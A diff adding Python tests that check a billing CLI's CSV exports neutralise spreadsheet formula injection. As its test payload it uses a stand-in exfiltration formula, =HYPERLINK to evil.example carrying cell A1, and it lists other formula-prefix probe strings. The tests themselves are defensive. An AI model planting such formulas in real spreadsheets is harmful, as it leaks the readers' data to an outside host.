@@ -379,3 +379,114 @@ def test_boolean_and_number_filters_match_what_sources_emit() -> None:
     ).collect()
     matched = {rule: sorted(pairs.filter(pl.col("mapping_id") == rule)["key_id"]) for rule in (10, 20)}
     assert matched == {10: [1, 2], 20: [5, 6, 7]}
+
+
+# --- 4. output that attacks its reader: CSV formulas ----------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+TRICKY_CELLS = [
+    FORMULA,
+    "+1+2",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTab",
+    "\rCR",
+    "'quoted",
+    "'=already",
+    "''=",
+    "'",
+    "-3.00",
+    "42",
+    "Acme Dental",
+    "",
+    "=",
+    "'-",
+]
+
+
+@pytest.mark.parametrize("text", TRICKY_CELLS)
+def test_a_neutralised_cell_reads_back_as_written(text: str) -> None:
+    from mcc.csv_cells import FORMULA_PREFIXES, read_cell, safe_cell
+
+    written = safe_cell(text)
+    assert read_cell(written) == text
+    assert not (written.startswith(FORMULA_PREFIXES) and written not in ("-3.00",))
+
+
+def _rename(engine: Engine, old: str, new: str) -> None:
+    from store.db import transaction
+
+    with transaction(engine) as session:
+        session.scalars(select(Client).where(Client.name == old)).one().name = new
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _no_formula(cells: list[str]) -> None:
+    import re
+
+    from mcc.csv_cells import FORMULA_PREFIXES
+
+    for cell in cells:
+        assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"-[0-9.]+", cell), cell
+
+
+def test_contracts_csv_export_neutralises_a_formula_name_and_imports_back_unchanged(
+    loaded: Engine, tmp_path: Path
+) -> None:
+    _rename(loaded, "Acme Dental", FORMULA)
+    runner = CliRunner()
+    sheet = runner.invoke(app, ["config", "export", "--contracts-csv"]).stdout
+    assert "'" + FORMULA.replace('"', '""') in sheet
+    _no_formula(_cells(sheet))
+    path = tmp_path / "contracts.csv"
+    path.write_text(sheet, encoding="utf-8")
+    before = snapshot(loaded)["contracts"]
+    result = runner.invoke(app, ["config", "import", str(path)])
+    assert result.exit_code == 0, result.output
+    assert result.stdout.endswith(": no changes\n")
+    assert snapshot(loaded)["contracts"] == before
+    assert runner.invoke(app, ["config", "export", "--contracts-csv"]).stdout == sheet
+
+
+def test_reconcile_and_report_csv_neutralise_a_formula_name(engine: Engine, write_config, cli_user) -> None:
+    from tests.test_reconcile_service import SOURCES as RECONCILE_SOURCES
+    from tests.test_reconcile_service import seed
+
+    write_config(RECONCILE_SOURCES)
+    seed(engine)
+    cli_user("alice", "approver")
+    _rename(engine, "Acme Dental", FORMULA)
+    runner = CliRunner()
+    gaps = runner.invoke(app, ["reconcile", "--period", "2026-03", "--format", "csv"])
+    assert gaps.exit_code == 0, gaps.output
+    assert "'" + FORMULA in _cells(gaps.stdout)
+    _no_formula(_cells(gaps.stdout))
+    report = runner.invoke(app, ["report", "client", FORMULA, "--period", "2026-03", "--format", "csv"])
+    assert report.exit_code == 0, report.output
+    assert "'" + FORMULA in _cells(report.stdout)
+    _no_formula(_cells(report.stdout))
+
+
+def test_the_invoice_csv_export_neutralises_a_formula_name(engine: Engine, tmp_path: Path) -> None:
+    from mcc import invoicing
+    from tests.invoicebook import APPROVER, INVOICER, PERIOD
+    from tests.invoicebook import seed as invoice_seed
+
+    book = invoice_seed(engine)
+    _rename(engine, "Acme Dental", FORMULA)
+    config = Config.model_validate(
+        {"accounting": {"kind": "file", "path": str(tmp_path / "out"), "format": "csv"}}
+    )
+    for invoice in invoicing.build_drafts(engine, config, APPROVER, PERIOD):
+        invoicing.approve(engine, INVOICER, invoice.id)
+    invoicing.push(engine, config, INVOICER, period=PERIOD, client_id=book.acme)
+    [path] = sorted((tmp_path / "out").iterdir())
+    cells = _cells(path.read_text(encoding="utf-8"))
+    assert "'" + FORMULA in cells
+    _no_formula(cells)
